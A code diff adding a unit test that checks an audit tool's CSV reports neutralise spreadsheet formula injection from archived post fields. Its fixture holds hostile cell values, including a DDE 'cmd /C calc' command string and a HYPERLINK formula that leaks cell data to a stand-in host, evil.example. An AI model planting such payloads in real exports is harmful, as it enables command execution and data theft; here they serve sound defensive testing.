@@ -70,6 +70,31 @@ def test_csv_cells_cannot_become_formulas(tmp_path: Path) -> None:
     assert row["text"] == "'=HYPERLINK(Kayden)"
 
 
+def test_no_csv_cell_from_an_archive_can_become_a_formula(tmp_path: Path) -> None:
+    """Author, address, platform, kind and file names come from the archive too."""
+    hostile = Post(
+        platform="+cmd|' /C calc'!A0",
+        text="-1+1 Kayden",
+        source=SourceRef("@SUM(1+1)*cmd|' /C calc'!A0.js", archive="=evil.zip", record=0),
+        author='=HYPERLINK("https://evil.example/?leak="&A1, "click")',
+        url="@SUM(1+1)",
+        kind="\tpost",
+    )
+    result = run_audit([hostile], analyze=batch)
+    paths = write_reports(result, tmp_path)
+
+    with paths["csv"].open(encoding="utf-8-sig", newline="") as stream:
+        (row,) = list(csv.DictReader(stream))
+    assert row["author"] == "'" + hostile.author
+    assert row["url"] == "'@SUM(1+1)"
+    assert row["text"] == "'-1+1 Kayden"
+    assert row["platform"] == "'+cmd|' /C calc'!A0"
+    assert row["kind"] == "'\tpost"
+    assert row["source"].startswith("'=evil.zip")
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [name for name, cell in row.items() if cell.startswith(formula_starts)]
+
+
 def test_highlight_merges_overlapping_spans() -> None:
     (analysis,) = batch(["Kayden lives on the estate"], "own")
     assert pieces(analysis) == [
